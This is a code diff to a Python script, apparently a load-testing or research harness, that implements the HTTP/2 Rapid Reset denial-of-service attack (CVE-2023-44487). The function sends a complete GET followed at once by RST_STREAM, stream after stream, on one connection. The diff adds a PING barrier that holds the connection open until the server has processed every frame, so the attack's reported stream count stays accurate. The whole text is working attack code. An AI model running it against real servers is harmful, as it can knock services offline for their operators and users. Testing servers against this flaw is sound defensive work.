@@ -207,11 +207,18 @@ def send_or_closed(sock, data):
 # --------------------------------------------------------------------------
 # attacks
 
-def rapid_reset(target, seconds, batch=500, tls=True):
+def rapid_reset(target, seconds, batch=500, tls=True, settle=30.0):
     """CVE-2023-44487: on one connection, HEADERS (a complete GET) followed
     at once by RST_STREAM(CANCEL), stream after stream, as fast as this
     process can, for seconds. The server never sees more than one open
-    stream, so SETTINGS_MAX_CONCURRENT_STREAMS does not limit it."""
+    stream, so SETTINGS_MAX_CONCURRENT_STREAMS does not limit it.
+
+    Then a PING, and the connection stays open until its ACK (at most
+    settle seconds): the server answers it only after reading every frame
+    before it. Closing earlier would reset the connection and drop the
+    streams still in the server's socket buffer (megabytes, for a server
+    slowed down by memcheck), so that the count of streams sent would
+    overstate what the server was made to do."""
     sock = connect(target, tls)
     reader = FrameReader(sock)
     sock.sendall(settings())
@@ -231,7 +238,11 @@ def rapid_reset(target, seconds, batch=500, tls=True):
         sent += batch
         nbytes += len(chunk)
         reader.drain()
-    reader.drain(0.2)
+    pings = reader.types[PING]
+    if not reader.closed and send_or_closed(sock, frame(PING, 0, 0, b"barrier!")):
+        deadline = time.monotonic() + settle
+        while reader.types[PING] == pings and not reader.closed and time.monotonic() < deadline:
+            reader.drain(0.1)
     sock.close()
     return {"streams": sent, "bytes_sent": nbytes, "server_closed": reader.closed,
             "goaway": reader.goaway, "frames_received": dict(reader.types)}
